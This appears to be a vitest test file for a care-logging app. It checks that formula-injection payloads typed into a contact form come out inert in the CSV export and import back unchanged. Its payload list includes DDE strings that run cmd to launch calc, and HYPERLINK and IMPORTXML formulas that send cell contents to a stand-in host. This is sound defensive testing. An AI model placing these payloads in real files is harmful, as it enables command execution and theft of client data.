// Spreadsheet formula injection (OWASP "CSV injection"): every trigger a spreadsheet reads as the
// start of a formula (= + - @, tab, carriage return), and the classic payloads built on them, typed
// into the contact form as notes and as a CAD number, then taken out with the real command line
// (`export --include-notes --out`). The figure is the number of cells of the exported file that a
// spreadsheet would evaluate; the notes must also come back word for word when the file is imported.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/domain/csv.js';
import { fromLocal } from '../../src/domain/time.js';
import { openNotes } from '../../src/services/contacts.js';
import { importContacts } from '../../src/services/csv-import.js';
import { startHarness, type Harness } from '../support/harness.js';
import { FOLLOWUP_YAML, NEW_CLIENT, settableClock } from '../support/followups.js';
import { openContactFormTemplate, reportFigure, stopwatch } from '../support/faults.js';
import { viewSubmission, type ModalValues } from '../support/slack-payloads.js';

const run = promisify(execFile);
const NY = 'America/New_York';
const clock = settableClock(fromLocal('2026-11-23', '10:00', NY));
/** The program of the form, and an empty one with the same codes to import the export into. */
const YAML = `${FOLLOWUP_YAML()}  - id: empty
    name: An empty program with the same codes
    timezone: ${NY}
    startDate: 2024-03-01
    clientCodePrefix: PIC
    slack: { teamId: T0EMPTY }
`;
/** A cell a spreadsheet evaluates: it begins with one of OWASP's triggers. */
const LIVE = /^[=+\-@\t\r]/;
const PAYLOADS = [
  ...['=', '+', '-', '@', '\t', '\r'].map((t) => `${t}1+1`),
  '=HYPERLINK("https://x.example/?"&B2,"click")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+IMPORTXML(CONCAT("https://x.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '\t=1+1, a tab first',
  "'=1+1 (a note that truly begins with a quote)",
  "''-2",
  '=1+1\r\n=2+2 on a second line',
];
/** A new client's contact (its referral is a Part 2 one, which the export below leaves out). */
const VALID: ModalValues = {
  ...NEW_CLIENT,
  contact_date: '2026-11-23',
  contact_time: '09:30',
};

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ now: clock.now, yaml: YAML });
});
afterAll(async () => {
  await h?.stop();
});

describe('formula injection through the form and the export', () => {
  it('leaves no cell a spreadsheet would evaluate, and imports back as the text typed', async () => {
    const elapsed = stopwatch();
    const deps = h.carelog.deps;
    const prisma = deps.db.prisma;
    const form = await openContactFormTemplate(h, 'U0CLIN1', { everyField: true });
    let views = 0;
    let saved = 0;
    let refsRefused = 0;
    for (const payload of PAYLOADS) {
      const asNotes = await h.interact(
        viewSubmission('U0CLIN1', form.asForm(`VF${++views}`), { ...VALID, notes: payload }),
      );
      if (asNotes.status === 200 && !asNotes.text.includes('"response_action":"errors"')) saved++;
      // The CAD number field takes letters, digits and - / . # after a letter or digit: refused.
      const asRef = await h.interact(
        viewSubmission('U0CLIN1', form.asForm(`VF${++views}`), { ...VALID, incident_ref: payload }),
      );
      if (asRef.text.includes('"response_action":"errors"')) refsRefused++;
    }
    const stored = await prisma.contact.count({ where: { programId: 'wilmington' } });

    const dir = mkdtempSync(path.join(os.tmpdir(), 'carelog-formulas-'));
    let csv: string;
    try {
      writeFileSync(path.join(dir, 'carelog.yml'), YAML);
      const env = {
        PATH: process.env.PATH ?? '',
        NODE_ENV: 'test',
        DATABASE_URL: deps.config.env.DATABASE_URL!,
        CARELOG_CONFIG: path.join(dir, 'carelog.yml'),
        CARELOG_ENCRYPTION_KEY: deps.config.env.CARELOG_ENCRYPTION_KEY!,
        LOG_LEVEL: 'silent',
      };
      const out = path.join(dir, 'export.csv');
      await run(
        process.execPath,
        [
          '--import',
          'tsx',
          'src/cli.ts',
          'export',
          '--program',
          'wilmington',
          '--from',
          '2026-11-01',
          '--to',
          '2026-11-30',
          '--include-notes',
          '--out',
          out,
        ],
        { env, cwd: process.cwd() },
      );
      csv = readFileSync(out, 'utf8');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const parsed = parseCsv(csv);
    if (!parsed.ok) throw new Error(`the export is not CSV (line ${parsed.line})`);
    const cells = parsed.records.flatMap((r) => r.fields);
    const live = cells.filter((c) => LIVE.test(c)).length;
    const part2Shown = cells.filter((c) => c.includes('addiction_treatment')).length;

    // Back in: the notes of the empty program's contacts are the payloads as typed.
    const imported = await importContacts(
      { db: deps.db, keyring: deps.keyring, directory: deps.directory },
      { program: deps.directory.program('empty')!, csv, now: clock.now() },
    );
    const back = (await prisma.contact.findMany({ where: { programId: 'empty' }, orderBy: { number: 'asc' } })).map(
      (c) =>
        c.notesCiphertext ? openNotes(deps.keyring, { programId: 'empty', contactId: c.id }, c.notesCiphertext) : null,
    );
    const mismatches = PAYLOADS.filter((p, i) => back[i] !== p).length;

    reportFigure({
      case: 'formula injection through the form and the export',
      figure: live,
      unit: 'cells a spreadsheet would evaluate',
      goal: '0',
      ok: live === 0 && mismatches === 0,
      of: { count: cells.length, unit: 'exported cells' },
      durationMs: elapsed(),
      details: {
        payloads: PAYLOADS.length,
        notesSaved: saved,
        incidentRefsRefused: refsRefused,
        contactsExported: parsed.records.length - 1,
        notesNotBackAsTyped: mismatches,
        part2ReferralsShown: part2Shown,
      },
    });
    expect(imported.ok).toBe(true);
    expect([saved, stored, refsRefused]).toEqual([PAYLOADS.length, PAYLOADS.length, PAYLOADS.length]);
    expect(live).toBe(0);
    expect(part2Shown).toBe(0);
    expect(back).toEqual(PAYLOADS);
  }, 180_000);
});
